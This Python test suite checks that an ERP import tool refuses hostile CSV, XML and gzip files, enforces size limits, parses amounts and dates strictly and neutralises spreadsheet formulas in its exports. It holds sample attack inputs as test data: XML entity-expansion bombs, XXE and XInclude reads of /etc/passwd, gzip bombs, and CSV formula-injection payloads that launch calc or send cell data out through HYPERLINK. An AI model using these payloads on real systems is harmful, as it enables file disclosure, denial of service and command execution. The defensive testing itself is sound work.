#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Hostile CSV, XML and gzip, row by row: what the code is, where it is, what the message says, that the original lies in rejects, and that none of it takes long. Numbers and dates
that only look like some. Every limit of these formats just kept and just broken. Formulas in what we write for people, and none of it in what an ERP takes.
"""
import gzip, os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from kit import *

tap = Tap()
CSV = commitments("HO-1")
BYTES = CSV.encode()
ITEM = "commitment/24-118/HO-1"
HEAD, ROW1, ROW2 = CSV.splitlines()
XML = """<?xml version="1.0" encoding="UTF-8"?>
<commitments>
 <commitment>
  <id>50001</id><type>WorkOrderContract</type><number>HO-2</number><title>Earthwork &amp; paving</title><status>Approved</status><executed>true</executed>
  <accounting_method>amount</accounting_method><contract_date>2026-02-18</contract_date><project><number>24-118</number></project><vendor><id>1001</id></vendor>
  <commitment_items>
   <commitment_item><position>1</position><description>Slab</description><cost_code><full_code>03-1100</full_code></cost_code><line_item_type><code>S</code></line_item_type><amount>100.00</amount></commitment_item>
  </commitment_items>
 </commitment>
</commitments>
"""
MIB = 1 << 20


def declared(name, codec):
    return XML.replace("UTF-8", name).encode(codec)


def attributes(n):
    return XML.replace("<commitment>", "<commitment %s>" % " ".join('a%d="1"' % i for i in range(n)), 1)


def spaces(n):
    return XML.replace("<commitments>", "<commitments %s>" % " ".join('xmlns:n%d="u%d"' % (i, i) for i in range(n)), 1)


def doctype(inside, use="Earthwork"):
    return XML.replace("<commitments>", "<!DOCTYPE commitments [%s]>\n<commitments>" % inside, 1).replace("Earthwork", use)


def element(text, name="description"):
    return XML.replace("<status>", "<%s>%s</%s><status>" % (name, text, name), 1)


def nested(n):
    return XML.replace("<id>50001</id>", "<a>" * n + "</a>" * n)


zipped_csv = gzip.compress(BYTES, mtime=0)
LAUGHS = "".join('<!ENTITY l%d "%s">' % (i, "&l%d;" % (i - 1) * 10) for i in range(1, 10))

# name, bytes, code, place as the message has it, words of the message
REFUSED = [
    # quotes, cells, lines
    ("open_quote.csv", CSV.replace("Concrete", '"Concrete', 1), "F-03", "Line 2, column 25", "close"),
    ("open_quote_last.csv", CSV + '24-118,"HO-9', "F-03", "Line 4, column 8", "close"),
    ("open_quote_behind_a_document.csv", commitments("HO-8") + ROW1.replace("HO-1", '"HO-9', 1) + "\n", "F-03", "Line 4, column 8", "close"),
    ("quote_inside.csv", CSV.replace("Concrete", 'Con"crete', 1), "F-03", "Line 2, column 28", "double every quote"),
    ("text_behind_quote.csv", CSV.replace("Concrete", '"Concrete" x', 1), "F-03", "Line 2, column 36", "closing quote"),
    ("cell_less.csv", "\n".join((HEAD, ROW1[:-1], ROW2, "")), "F-04", "Line 2", "has 28 cells"),
    ("cell_more.csv", "\n".join((HEAD, ROW1, ROW2 + ",", "")), "F-04", "Line 3", "has 30 cells"),
    ("control_z.csv", CSV + "\x1a", "F-04", "Line 4", "1 cells"),
    ("cr_alone.csv", CSV.replace("\n", "\r"), "F-03", "Line 1, column %d" % (len(HEAD) + 1), "CR alone"),
    ("empty.csv", "", "F-01", "", "empty"),
    ("line_ends_only.csv", "\r\n\r\n", "F-01", "", "empty"),
    ("semicolons.csv", CSV.replace(",", ";"), "F-01", "", "No layout"),
    ("column_twice.csv", CSV.replace("Description,", "Title,", 1), "F-07", "", "Title"),
    # encodings
    ("utf16_without_mark.csv", CSV.encode("utf-16-le"), "F-02", "Line 1, column 2", "UTF-16"),
    ("utf32.csv", CSV.encode("utf-32"), "F-02", "", "UTF-32"),
    ("windows.csv", CSV.replace("Concrete", "B\u00e9ton").encode("cp1252"), "F-02", "Line 2, column 26", "0xE9"),
    ("overlong.csv", BYTES.replace(b"Concrete", b"Con\xc0\xafcrete"), "F-02", "Line 2, column 28", "0xC0"),
    ("surrogate.csv", BYTES.replace(b"Concrete", b"Con\xed\xa0\x80crete"), "F-02", "Line 2, column 28", "0xED"),
    ("shift_jis.csv", CSV.replace("Concrete", "\u30c6\u30b9\u30c8").encode("shift_jis"), "F-02", "Line 2, column 25", "0x83"),
    ("ebcdic.csv", CSV.encode("cp500"), "F-02", "Line 1, column 2", "encoding"),
    ("nul.csv", CSV.replace("Concrete", "Con\0crete"), "F-26", "Line 2", "control character"),
    ("escape.csv", CSV.replace("Concrete", "Con\x1b[31mcrete"), "F-26", "Line 2", "control character"),
    ("utf7.xml", XML.replace("UTF-8", "UTF-7"), "F-02", "Line 1, column 31", '"UTF-7"'),
    ("shift_jis.xml", declared("Shift_JIS", "ascii"), "F-02", "Line 1, column 31", '"Shift_JIS"'),
    ("gb18030.xml", declared("GB18030", "gb18030"), "F-02", "Line 1, column 31", '"GB18030"'),
    ("iso_2022.xml", declared("ISO-2022-JP", "ascii"), "F-02", "Line 1, column 31", '"ISO-2022-JP"'),
    ("ebcdic.xml", declared("IBM037", "cp037"), "F-02", "column", "encoding"),
    ("utf32.xml", declared("UTF-32", "utf-32"), "F-02", "", "UTF-32"),
    ("utf16_lie.xml", XML.replace("UTF-8", "UTF-16"), "F-02", "Line 1, column 31", "byte order mark"),
    ("mark_lie.xml", b"\xff\xfe" + XML.encode("utf-16-le"), "F-02", "Line 1, column", "encoding"),
    ("bad_byte.xml", XML.encode().replace(b"Earth", b"E\xff\xfe"), "F-02", "Line 4, column", "UTF-8"),
    ("nul.xml", XML.replace("Earth", "a\0b"), "F-03", "Line 4, column", "NUL"),
    # XML
    ("doctype.xml", doctype(""), "F-03", "Line 2, column 1", "DOCTYPE"),
    ("laughs.xml", doctype('<!ENTITY l0 "ha">' + LAUGHS, "&l9;"), "F-03", "Line 2, column 1", "DOCTYPE"),
    ("quadratic.xml", doctype('<!ENTITY a "%s">' % ("x" * 50000), "&a;" * 20000), "F-03", "Line 2, column 1", "DOCTYPE"),
    ("xxe_file.xml", doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"), "F-03", "Line 2, column 1", "DOCTYPE"),
    ("xxe_net.xml", doctype('<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;'), "F-03", "Line 2, column 1", "DOCTYPE"),
    ("entity.xml", XML.replace("Earthwork", "&foo;"), "F-03", "Line 4, column", "entity"),
    ("forbidden.xml", XML.replace("Earthwork", "&#1;"), "F-03", "Line 4, column", "forbids"),
    ("ampersand.xml", XML.replace("&amp;", "&"), "F-03", "Line 4, column", "&amp;"),
    ("two_roots.xml", XML + "<a/>", "F-03", "Line 11, column 1", "behind the end"),
    ("cut.xml", XML[:-10], "F-03", "Line 10, column", "ends early"),
    ("cut_in_a_record.xml", XML[:XML.index("Slab")], "F-03", "Line 7, column", "ends early"),
    ("crossed.xml", XML.replace("</title><status>", "<status></title>", 1), "F-03", "Line 4, column", "not well formed"),
    ("attribute_twice.xml", XML.replace("<commitments>", '<commitments a="1" a="2">'), "F-03", "Line 2, column", "same attribute twice"),
    ("attributes_40k.xml", attributes(40000), "LIMIT-TAG", "Line 3, column 2", "65536 bytes"),
    ("attributes_100k.xml", attributes(100000), "LIMIT-TAG", "Line 3, column 2", "65536 bytes"),
    ("namespaces_20k.xml", spaces(20000), "LIMIT-TAG", "Line 2, column 1", "65536 bytes"),
    ("deep.xml", nested(5000), "LIMIT-DEPTH", "Line 4, column", "64 deep"),
    ("long_text.xml", XML.replace("Earthwork", "E" * 20 * MIB), "LIMIT-TEXT", "Line 4, column", "1048576 bytes"),
    ("unclosed_tag.xml", XML.replace("<title>", '<title a="' + "x" * 70000), "LIMIT-TAG", "Line 4, column", "quote is not closed"),
    # gzip, by its first bytes and never by its name
    ("junk_behind.csv.gz", zipped_csv + b"junk", "F-03", "", "behind the end"),
    ("cut.csv.gz", zipped_csv[:-5], "F-03", "", "ends early"),
    ("checksum.csv.gz", zipped_csv[:-8] + b"\1\2\3\4" + zipped_csv[-4:], "F-03", "", "checksum"),
    ("gzip_in_gzip.csv.gz", gzip.compress(zipped_csv), "F-03", "", "archive"),
    ("second_member.csv.gz", zipped_csv + gzip.compress(b"x"), "F-04", "Line 4", "1 cells"),
    ("bomb.csv.gz", gzip.compress(b"x" * 300 * MIB), "LIMIT-ROW", "Line 1", "1048576 bytes"),
    ("bomb.xml", gzip.compress(XML[:-15].encode() + b"<!-- x -->" * 30 * MIB), "LIMIT-RATIO", "", "far more"),
    ("name_only.csv.gz", b"A,B\n1,2\n", "F-01", "", "No layout"),
]

# name, bytes: strange, and taken as it is
TAKEN = [
    ("bom.csv", b"\xef\xbb\xbf" + BYTES), ("utf16.csv", CSV.encode("utf-16")), ("utf16_be.csv", b"\xfe\xff" + CSV.encode("utf-16-be")), ("mixed_ends.csv", CSV.replace("\n", "\r\n", 1)),
    ("blank_lines.csv", CSV.replace("\n", "\n\n")), ("no_last_end.csv", CSV[:-1]), ("blanks_around.csv", CSV.replace("Concrete", ' "Concrete" ')), ("quoted.csv", CSV.replace("Concrete", '"Con""crete,\nsecond line"')),
    ("utf16.xml", declared("UTF-16", "utf-16")), ("latin.xml", declared("ISO-8859-1", "latin-1")), ("windows.xml", declared("windows-1252", "cp1252")), ("ascii.xml", declared("US-ASCII", "ascii")),
    ("include.xml", XML.replace("<commitments>", '<commitments xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/>')),
    ("instruction.xml", XML.replace("<commitments>", '<?xml-stylesheet href="file:///etc/passwd"?><commitments>')), ("cdata.xml", XML.replace("Earthwork &amp; paving", "<![CDATA[<!DOCTYPE x>&foo;]]>")),
    ("gzip.xml", gzip.compress(XML.encode())), ("gzip.csv", zipped_csv), ("two_members.csv.gz", gzip.compress(BYTES[:900]) + gzip.compress(BYTES[900:])),
]


def as_bytes(data):
    return data if isinstance(data, bytes) else data.encode("utf-8")


def check(site, name, data):
    path = os.path.join(TEMP, name)
    write(path, as_bytes(data))
    began = time.monotonic()
    found = [f for f in site.json("check", path, "--source", "procore", ok=(0, 2)) if "code" in f and f["severity"] == "R"]
    took = time.monotonic() - began
    os.unlink(path)
    return found, took


def shown(found):
    return [(f["code"], f["line"], f["message"][:200]) for f in found]


def refused():
    site, slow = Site("refused"), []
    small_reference(site)
    for name, data, code, place, words in REFUSED:
        found, took = check(site, name, data)
        whole = code != "F-04" and code != "F-26"
        tap.ok([f["code"] for f in found] == [code] and (found[0]["line"] == 1 or not whole), "%s: %s, once" % (name, code), shown(found))
        tap.ok(bool(found) and place in found[0]["message"] and words in found[0]["message"] and 38 < len(found[0]["message"]) < 400, "%s: the message has place and cure" % name, shown(found))
        slow += [(name, took)] if took > 5 else []
        site.drop("procore", name, as_bytes(data))
    tap.same(slow, [], "none takes longer than 5 seconds")
    time.sleep(1.1)  # what is still not whole is taken, and refused, once it has been still for the settle timeout
    began = time.monotonic()
    tap.same(site.run(), 3, "all of them in one night: run ends 3")
    tap.ok(time.monotonic() - began < 60, "all of them in one night: in less than a minute", time.monotonic() - began)
    said = {f["file"]: (f["code"], f["message"]) for f in site.findings() if f["severity"] == "R"}
    kept = {}
    for files in site.rejects().values():
        for n in files:
            kept[n] = files
    for name, data, code, place, words in REFUSED:
        files, told = kept.get(name, {}), said.get(name, ("", ""))
        tap.ok(told[0] == code and words in told[1] and files.get(name) == as_bytes(data), "%s: run says the same, the original lies in rejects unchanged" % name, (told, sorted(files)))
        tap.ok(code in files.get("WHY.txt", b"").decode() and told[1] in files.get("WHY.txt", b"").decode() and sha256(as_bytes(data)) in files["WHY.txt"].decode(),
               "%s: WHY.txt says why" % name, files.get("WHY.txt", b"")[:600])
    tap.same(sorted(i for i in site.queue("--type", "commitment") if i != ITEM), [], "nothing of them was taken, but the document beside a row that is none")
    tap.same([f for f in os.listdir(os.path.join(site.path, "spool/work")) if f.startswith("D")], [], "nothing is left in work")


def taken():
    site = Site("taken")
    small_reference(site)
    for name, data in TAKEN:
        found, _ = check(site, name, data)
        tap.same(shown(found), [], "%s is taken" % name)
    for name, want in (("cdata.xml", "<!DOCTYPE x>&foo;"), ("include.xml", "Earthwork & paving")):
        site.drop("procore", name, as_bytes(dict(TAKEN)[name]))
        site.run()
        tap.ok(want in site.call("show", "commitment/24-118/HO-2"), "%s: the title is what stands there" % name, site.call("show", "commitment/24-118/HO-2")[:600])


# ---- numbers and dates ----

GOOD_NUMBERS = {"0": "0.00", "1": "1.00", "-1.50": "-1.50", "1.5": "1.50", "1.500": "1.50", "$3,500.00": "3500.00", "$-731.29": "-731.29", "$.00": "0.00", ".5": "0.50", "-0.00": "0.00", "007.10": "7.10",
                "1,234,567.89": "1234567.89", "9999999999999999.99": "9999999999999999.99", "00000000000000000001.00": "1.00"}
BAD_NUMBERS = ["1e3", "1E3", "1.0e2", "0x10", "0b1", "1.000,00", "1,00", "12,34.00", "1,2345.00", "1 000.00", "1\u00a0000.00", "1'000.00", "\uff11\uff12", "\u0661\u0662", "\u22121.00", "\u20131.00", "(10.00)",
               "10.00-", "+10.00", "--1", "-", ".", "$", "$-", "5.", "1.2.3", "1..2", "NaN", "nan", "Infinity", "inf", "#REF!", "#####", "=1+1", "1%", "EUR 5", "5 USD", "\u20ac5.00", "five", "1_000", "1\u200b0.00",
               "\u202e10.00", "\u00bd", "1/2", "true", "1d", "1.00f", "00-1", "$ 5.00", "-$-5"]
LOST_NUMBERS = ["1.005", "0.001", "10.999999999999", "12345678901234567.00", "99999999999999999999", "0.0000000000000000000000001", "1" + "0" * 400]
GOOD_DATES = {"02/29/2028": "2028-02-29", "12/31/9999": "9999-12-31", "01/01/0001": "0001-01-01"}
BAD_DATES = ["02/29/2026", "02/30/2026", "04/31/2026", "13/01/2026", "00/10/2026", "10/00/2026", "02/05/26", "02-05-2026", "2026-02-05", "05.02.2026", "20260205", "02/05/2026 10:00", "02/05/02026", "02/05/0000",
             "46058", "46058.5", "Feb 5, 2026", "5-Feb-26", "today", "02/05/", "//", "02//2026", " /02/2026", "\uff10\uff12/05/2026", "02/05/2026Z", "2/5/20 26", "0x2/05/2026", "-1/05/2026", "1/5/2026x", "NULL", "00/00/0000"]


def quoted(v):
    return '"%s"' % v.replace('"', '""')


def values():
    site = Site("values")
    small_reference(site)
    cases = [("N", v, None) for v in BAD_NUMBERS] + [("L", v, None) for v in LOST_NUMBERS] + [("N", v, w) for v, w in GOOD_NUMBERS.items()]
    cases += [("D", v, None) for v in BAD_DATES] + [("D", v, w) for v, w in GOOD_DATES.items()]
    text = HEAD + "\n"
    for i, (kind, v, _) in enumerate(cases):
        row = ROW1.replace("HO-1", "V-%d" % i, 1)
        text += (row.replace("02/05/2026", quoted(v)) if kind == "D" else row.replace("100.00", quoted(v))) + "\n"
    site.drop("procore", "values.csv", text)
    tap.same(site.run(), 3, "values: run ends 3")
    said, items = {}, site.queue("--type", "commitment")
    for f in site.findings():
        said.setdefault(f["item"], []).append(f)
    for i, (kind, v, want) in enumerate(cases):
        item = "commitment/24-118/V-%d" % i
        found, what = [f for f in said.get(item, []) if f["severity"] == "R"], "%s %r" % ({"D": "date"}.get(kind, "amount"), v[:30])
        if want is None:
            code = "F-22" if kind == "L" else "F-21"
            tap.ok([(f["code"], f["line"]) for f in found] == [(code, i + 2)] and item not in items and ("Contract Date" if kind == "D" else "Amount") in found[0]["message"], what + ": " + code, shown(found))
        elif kind == "N":
            tap.same((shown(found), items.get(item, {}).get("amount")), ([], want), what + " is " + want)
        else:
            tap.ok(not found and item in items and want in site.call("show", item, "--raw", ok=None) + site.call("show", item), what + " is " + want, shown(found))


# ---- limits ----

def wide(n):
    return "\n".join((HEAD + "".join(",x%d" % i for i in range(n - 29)), ROW1 + "," * (n - 29), ""))


def long_row(n):
    row = ROW1.replace(",,Approved", ",@,Approved", 1)
    return HEAD + "\n" + row.replace("@", "d" * (n - len(row) + 1)) + "\n"


def long_tag(n):
    frame = '<commitment a="">'
    return XML.replace("<commitment>", '<commitment a="%s">' % ("x" * (n - len(frame))), 1)


def big_record(n):
    line = XML[XML.index("   <commitment_item>"):XML.index("  </commitment_items>")]
    return XML.replace(line, "".join(line.replace("<position>1", "<position>%d" % (i + 1)).replace("Slab", "s" * 900000) for i in range(n)))


LIMITS = [  # what, just kept, just broken, code
    ("cells of a row", wide(1000), wide(1001), "LIMIT-CELLS", "csv"),
    ("bytes of a row", long_row(MIB - 2), long_row(MIB + 1), "LIMIT-ROW", "csv"),
    ("bytes of a tag", long_tag(65535), long_tag(65537), "LIMIT-TAG", "xml"),
    ("depth", nested(61), nested(63), "LIMIT-DEPTH", "xml"),
    ("text of an element", element("t" * MIB), element("t" * (MIB + 1)), "LIMIT-TEXT", "xml"),
    ("text that nobody reads", element("t" * 8 * MIB, "attachment"), element("t" * (8 * MIB + 1), "attachment"), "LIMIT-TEXT", "xml"),
    ("one record", big_record(15), big_record(19), "LIMIT-DOC", "xml"),
]


def limits():
    site = Site("limits")
    small_reference(site)
    for what, kept, broken, code, ending in LIMITS:
        tap.same(shown(check(site, "kept." + ending, kept)[0]), [], "limit: %s, just kept" % what)
        found, _ = check(site, "broken." + ending, broken)
        tap.ok([f["code"] for f in found] == [code] and len(found[0]["message"]) > 60, "limit: %s, just broken: %s" % (what, code), shown(found))
    conf = os.path.join(site.path, "erpgate.conf")
    was = read(conf)
    rest = 256 * 1024 - len(was)
    write(conf, was + b"#" * (rest % 1000) + (b"#" * 999 + b"\n") * (rest // 1000))
    tap.same(site.ask("status").returncode, 0, "limit: settings of 256 KiB, just kept")
    write(conf, read(conf) + b"\n")
    p = site.ask("status")
    tap.ok(p.returncode != 0 and "erpgate.conf" in p.stderr and "262144" in p.stderr, "limit: settings of one byte more", p.stderr)


# ---- formulas ----

PAYLOADS = ["=HYPERLINK(\"http://x/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "-1-1", "+", "=", "@"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def plain(v):
    import re
    return re.fullmatch(r"-?\d+(\.\d+)?", v) is not None


def formulas():
    site = Site("formulas", settings=("settle.quiet = 0s", "run.settle_timeout = 1s"))
    small_reference(site)
    numbers = ["F-%d" % i for i in range(len(PAYLOADS))]
    site.drop("procore", "c.csv", COMMITMENT + "".join(commitment_rows(n, title="@@").replace("@@", quoted(p)).replace("Line 1", quoted(p)) for n, p in zip(numbers, PAYLOADS)))
    names = [("3%03d" % i, p) for i, p in enumerate(PAYLOADS)]
    site.drop("procore", "companies.csv", "Company ID,Name,Abbreviated Name,Vendor Type,Address,Address 2,City,State,Zip,Country,Business Phone,Fax,Email Address,Website,Tax ID,Active,Customer,ERP Vendor ID\n"
              + "".join("%s,%s,,,%s,,,,,,,,,,,Yes,No,\n" % (k, quoted(p), quoted(p)) for k, p in names))
    site.drop("procore", "held.csv", COMMITMENT + commitment_rows("=F-X", vendor="=9999", title="@@").replace("@@", quoted(PAYLOADS[0])))
    site.drop("procore", "=bad.csv", COMMITMENT + commitment_rows("F-Y", amounts=("=1+1",)))
    site.run()

    def people(name, data):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        bad = [(i, v) for i, r in enumerate(rows) for v in r if v.startswith(TRIGGERS) and not plain(v)]
        return tap.same(bad[:3], [], "%s: no cell begins as a formula" % name) and rows

    path = os.path.join(TEMP, "sheet.csv")
    site.call("sheet", "-o", path, "--all")
    data = read(path)
    people("the sheet as CSV", data)
    tap.ok(b"'=9999" in data or b"'=" in data, "the sheet as CSV: they are there, as text", data[:300])
    path = os.path.join(TEMP, "sheet.xlsx")
    site.call("sheet", "-o", path, "--all")
    import zipfile
    with zipfile.ZipFile(path) as z:
        tap.ok(all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) and b"hyperlink" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")), "the sheet as a workbook: no formula, no link")
    for report in ("accountant", "job-costs", "unsyncable", "reconcile", "aging"):
        path = os.path.join(TEMP, report + ".csv")
        p = site.ask("report", report, "-o", path)
        if p.returncode == 0 and os.path.exists(path):
            people("report %s as CSV" % report, read(path))
        else:
            tap.ok(False, "report %s as CSV" % report, p.stderr)
        path = os.path.join(TEMP, report + ".xlsx")
        p = site.ask("report", report, "-o", path)
        with zipfile.ZipFile(path) as z:
            tap.ok(all(b"<f>" not in z.read(n) and b"hyperlink" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")), "report %s as a workbook: no formula, no link" % report)
    for d, files in site.rejects().items():
        for n, data in files.items():
            if n == "rejects.csv":  # the sender's own cells must come back as they are; ours stand behind them
                rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
                ours = next(i for i, name in enumerate(rows[0]) if name.startswith("Erpgate"))
                out = io.StringIO()
                csv.writer(out).writerows(r[ours:] for r in rows)
                people("our columns in %s of %s" % (n, d), out.getvalue().encode())
    # what an ERP takes keeps the bytes
    rows = [("commitment/24-118/" + n, "Accept") for n in numbers]
    site.return_sheet("yes.csv", site.sheet(rows))
    site.run()
    out = b"".join(site.out().values())
    for n, p in zip(numbers, PAYLOADS):
        tap.same(site.queue().get("commitment/24-118/" + n, {}).get("state"), "exported", "a title %r leaves" % p)
        written = p.replace("'", "")  # CMiC takes no apostrophes: F-41, and nothing else is changed
        field = written.replace('"', '""').encode()
        tap.ok(field in out and b"'" + field not in out, "a title %r: the ERP's file has it as it came" % p, out[:300])


refused()
taken()
values()
limits()
formulas()
tap.end()
